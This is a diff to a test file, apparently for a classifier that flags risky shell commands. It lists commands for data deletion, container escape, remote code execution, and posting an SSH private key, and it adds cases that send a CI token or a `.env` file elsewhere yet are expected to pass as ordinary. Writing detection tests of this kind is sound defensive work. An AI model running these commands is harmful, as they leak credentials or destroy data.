@@ -20,6 +20,7 @@ it.each([
   ['curl -X DELETE localhost:9200/_all', 'sql-drop'],
   ['curl -X POST http://localhost:2375/containers/create -d {}', 'container-escape'],
   ['curl -fsSLO https://example.org/x.sh && ./x.sh', 'remote-code-exec'],
+  ['curl -d @/home/me/.ssh/id_rsa http://localhost:3000/x', 'exfiltration'],
 ])('%s: %s', (command, rule) => {
   expect(rules(command)).toContain(rule);
 });
@@ -33,6 +34,9 @@ it.each([
   'curl -fsSLO https://example.org/releases/tool-1.2.tgz',
   'wget -q https://example.org/data/archive.tar.gz && tar xzf archive.tar.gz',
   'curl -s localhost:9200/_cat/indices',
+  'curl -d "token=$CI_TOKEN" http://localhost:3000/auth',
+  'curl -T .env file:///tmp/env-copy',
+  'xh --curl POST https://example.org f@.env',
 ])('%s stays ordinary', (command) => {
   expect(rules(command)).toEqual([]);
 });
